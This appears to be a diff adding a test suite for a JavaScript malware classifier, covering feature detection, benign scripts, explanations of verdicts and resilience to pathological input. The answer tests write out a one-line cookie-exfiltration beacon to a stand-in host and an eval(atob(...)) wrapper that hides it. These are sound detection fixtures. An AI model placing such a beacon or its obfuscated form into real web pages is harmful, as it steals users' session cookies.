@@ -1,0 +1,210 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import fc from 'fast-check';
+import { families, features } from './features/features.ts';
+import { base64 } from './samples/hiding.ts';
+import { maliciousSamples } from './samples/malicious-samples.ts';
+import { classifyScript } from './script-classifier.ts';
+import { MALICIOUS_BELOW, MOST_SCRIPT_BYTES } from './script-verdict.ts';
+
+function scored(code: string) {
+  const verdict = classifyScript(code);
+  assert.ok(verdict.kind === 'scored', `${verdict.kind}: ${code}`);
+  return verdict;
+}
+
+const found = (code: string): string[] =>
+  scored(code).reasons.map(({ family, id }) => `${family}/${id}`);
+
+describe('script classifier: features', () => {
+  for (const family of families) {
+    for (const { id, samples } of features[family]) {
+      it(`${family}/${id} is found in its samples and not in the others`, () => {
+        for (const code of samples.matching) {
+          assert.ok(found(code).includes(`${family}/${id}`), code);
+        }
+        for (const code of samples.other) {
+          assert.ok(!found(code).includes(`${family}/${id}`), code);
+        }
+      });
+    }
+  }
+
+  it('have ids of their own in each family', () => {
+    for (const family of families) {
+      const ids = features[family].map(({ id }) => id);
+      assert.equal(new Set(ids).size, ids.length);
+    }
+  });
+});
+
+describe('script classifier: malicious samples', () => {
+  for (const { name, family, code } of maliciousSamples) {
+    it(`${name} is malicious, and low in ${family}`, () => {
+      const { scores } = scored(code);
+      assert.ok(scores.integrity < MALICIOUS_BELOW, `integrity ${scores.integrity}`);
+      assert.ok(scores[family] < 35, `${family} ${scores[family]}`);
+    });
+  }
+});
+
+describe('script classifier: ordinary scripts', () => {
+  const ordinary: Readonly<Record<string, string>> = {
+    'a loader of a tag manager': `(function (w, d, s, l, i) { w[l] = w[l] || []; w[l].push({ 'gtm.start': new Date().getTime(), event: 'gtm.js' }); var f = d.getElementsByTagName(s)[0], j = d.createElement(s), dl = l != 'dataLayer' ? '&l=' + l : ''; j.async = true; j.src = 'https://tags.example/gtm.js?id=' + i + dl; f.parentNode.insertBefore(j, f); })(window, document, 'script', 'dataLayer', 'GTM-X');`,
+    'page views with an id from a cookie': `var id = (document.cookie.match(/(?:^|; )uid=([^;]*)/) || [])[1]; new Image().src = 'https://stats.example/v?u=' + encodeURIComponent(id) + '&p=' + encodeURIComponent(location.pathname);`,
+    'a payment that waits for its answer': `document.querySelector('#pay').onsubmit = async (e) => { e.preventDefault(); const r = await fetch('https://pay.example/v1/tokens', { method: 'POST', body: JSON.stringify({ number: document.querySelector('#card-number').value, cvc: document.querySelector('#cvc').value }) }); const { token } = await r.json(); document.querySelector('#token').value = token; e.target.submit(); };`,
+    'a check of card fields': `const n = document.querySelector('#card-number'); n.addEventListener('input', () => { n.value = n.value.replace(/\\D/g, '').replace(/(.{4})/g, '$1 ').trim(); n.classList.toggle('bad', !/^4[0-9]{12}/.test(n.value)); });`,
+    'a search as you type': `const q = document.querySelector('#q'); q.addEventListener('keyup', (e) => { if (e.key === 'Enter') fetch('/search?q=' + encodeURIComponent(q.value)).then((r) => r.json()).then(show); });`,
+    'a shortcut': `document.addEventListener('keydown', function (e) { if (e.ctrlKey && e.keyCode === 75) open(); });`,
+    'a login': `form.onsubmit = () => fetch('/login', { method: 'POST', body: new FormData(form) }).then((r) => location.assign(r.url));`,
+    'a template compiler': `function compile(t) { return new Function('data', 'var o = "";' + t.replace(/x/g, 'y') + 'return o;'); }`,
+    'images in workers': `for (let i = 0; i < navigator.hardwareConcurrency; i++) { const w = new Worker('/resize.js'); w.postMessage({ width: 100 }); }`,
+    'a chat': `const s = new WebSocket('wss://chat.example'); s.onmessage = (m) => { list.append(JSON.parse(m.data).text); }; send.onclick = () => s.send(JSON.stringify({ text: input.value }));`,
+  };
+  for (const [what, code] of Object.entries(ordinary)) {
+    it(`${what} is not malicious`, () => {
+      const { scores, reasons } = scored(code);
+      assert.ok(scores.integrity >= 10, JSON.stringify({ scores, reasons }));
+    });
+  }
+
+  it('a script without anything gets 99 everywhere', () => {
+    assert.deepEqual([...new Set(Object.values(scored('a();').scores))], [99]);
+    assert.deepEqual(scored('').reasons, []);
+  });
+
+  it('obfuscation alone does not make a script malicious', () => {
+    const all = features.obfuscation.flatMap(({ samples }) => samples.matching.slice(0, 1));
+    const quiet = all.filter((code) => !/eval|unescape|constructor/.test(code));
+    const { scores } = scored(quiet.join('\n'));
+    assert.ok(scores.obfuscation < 5);
+    assert.ok(scores.integrity >= 10, String(scores.integrity));
+  });
+});
+
+describe('script classifier: answers', () => {
+  it('names the place of a reason, gravest first', () => {
+    const { reasons } = scored(`a();\n  new Image().src = '//x.test/?' + document.cookie;`);
+    assert.deepEqual(reasons[0], {
+      id: 'all-cookies-sent-unanswered',
+      family: 'malware',
+      what: 'Sends all cookies as they are and nobody waits for an answer',
+      points: 90,
+      line: 2,
+      column: 3,
+      isInHiddenCode: false,
+    });
+    const points = reasons.map((reason) => reason.points);
+    assert.deepEqual(
+      points,
+      points.toSorted((a, b) => b - a),
+    );
+  });
+
+  it('looks into code that a script carries as text', () => {
+    const inner = `new Image().src = '//x.test/?' + document.cookie;`;
+    const { reasons } = scored(`a();\neval(atob('${base64(inner)}'));`);
+    const reason = reasons.find(({ id }) => id === 'all-cookies-sent-unanswered');
+    assert.deepEqual([reason?.line, reason?.column, reason?.isInHiddenCode], [2, 1, true]);
+  });
+
+  it('gives no scores above the limit, counted in bytes', () => {
+    const kindOf = (code: string): string => classifyScript(code).kind;
+    assert.equal(kindOf(`/*${'a'.repeat(MOST_SCRIPT_BYTES - 4)}*/`), 'scored');
+    assert.equal(kindOf(`/*${'a'.repeat(MOST_SCRIPT_BYTES - 3)}*/`), 'too-large');
+    assert.equal(kindOf(`/*${'ä'.repeat(MOST_SCRIPT_BYTES / 2)}*/`), 'too-large');
+  });
+
+  it('gives no scores for what is no script or is nested too deeply', () => {
+    assert.equal(classifyScript('<html></html>').kind, 'not-javascript');
+    assert.equal(classifyScript('{"imports":{}}').kind, 'not-javascript');
+    assert.equal(classifyScript('['.repeat(100_000)).kind, 'too-deep');
+  });
+
+  it('is the same every time', () => {
+    for (const { code } of maliciousSamples) {
+      assert.deepEqual(classifyScript(code), classifyScript(code));
+    }
+  });
+});
+
+describe('script classifier: hostile texts', () => {
+  const fill = (piece: string): string => piece.repeat(Math.floor(300_000 / piece.length));
+  const hostile: Readonly<Record<string, string>> = {
+    'one name': fill('a'),
+    'one text': `'${fill('a')}'`,
+    'one sum': `x=1${fill('+1')}`,
+    'one sum of texts': `x='a'${fill(`+'a'`)}`,
+    'one sum that is used again and again': `x='a'${`+'a'`.repeat(20_000)};${'f(x+x);'.repeat(20_000)}`,
+    'one chain of calls': `a${fill('()')}`,
+    'one chain of members': `a${fill('.b')}`,
+    'many scopes': `${'{let a;'.repeat(400)}${'a;'.repeat(100_000)}${'}'.repeat(400)}`,
+    'many variables': Array.from({ length: 25_000 }, (_, at) => `let a${at};`).join(''),
+    'variables that name each other': Array.from(
+      { length: 15_000 },
+      (_, at) => `var a${at}=a${at + 1};`,
+    ).join(''),
+    'one array of texts and many lookups': `var t=[${`'a',`.repeat(20_000)}];${'f(t[9]);'.repeat(20_000)}`,
+    'lists that grow': `var a='${'x'.repeat(1000)}';${Array.from({ length: 8000 }, (_, at) => `var b${at}=a+a;`).join('')}`,
+    'texts that double': `var a0='xx';${Array.from({ length: 5000 }, (_, at) => `var a${at + 1}=a${at}+a${at};`).join('')}`,
+    'many script elements': `document.write('${fill('<script>').slice(0, 290_000)}')`,
+    'a pattern with many groups': `/${fill('(?<a>b)|').slice(0, 290_000)}c/`,
+    'many holes': `[${fill(',').slice(0, 290_000)}]=a`,
+    'many senders': fill('fetch(a)||'.concat('')).concat('b'),
+    'many writers': fill('document.write(atob(a));'),
+    'many decoders': fill('String.fromCharCode(a^1);'),
+    'many cases': `switch(a){${fill('case 1:')}}`.slice(0, 300_000),
+    'many arguments': `f(${fill('a,')})`,
+    'nested functions that call each other': `${Array.from({ length: 5000 }, (_, at) => `function f${at}(a){return f${(at * 7) % 5000}(a+f${(at * 3) % 5000}(a))}`).join('')}`,
+  };
+  for (const [what, code] of Object.entries(hostile)) {
+    it(`answers to ${what}`, () => {
+      assert.match(classifyScript(code).kind, /^(?:scored|too-large|too-deep|not-javascript)$/);
+    });
+  }
+
+  it('answers to any text', () => {
+    const pieces = fc.constantFrom(
+      ...[
+        '(',
+        ')',
+        '{',
+        '}',
+        '[',
+        ']',
+        'a',
+        '.b',
+        '=',
+        '+',
+        ',',
+        ';',
+        "'",
+        '`',
+        '${',
+        '/',
+        '\0',
+        '<!--',
+      ],
+      ...[
+        'function ',
+        'return ',
+        'eval',
+        'atob',
+        '=>',
+        'class ',
+        'new ',
+        'var ',
+        'for(',
+        'of ',
+        '1',
+        '\n',
+      ],
+    );
+    fc.assert(
+      fc.property(fc.array(pieces, { maxLength: 60 }), (parts) => {
+        classifyScript(parts.join(''));
+      }),
+      { numRuns: 3000 },
+    );
+  });
+});
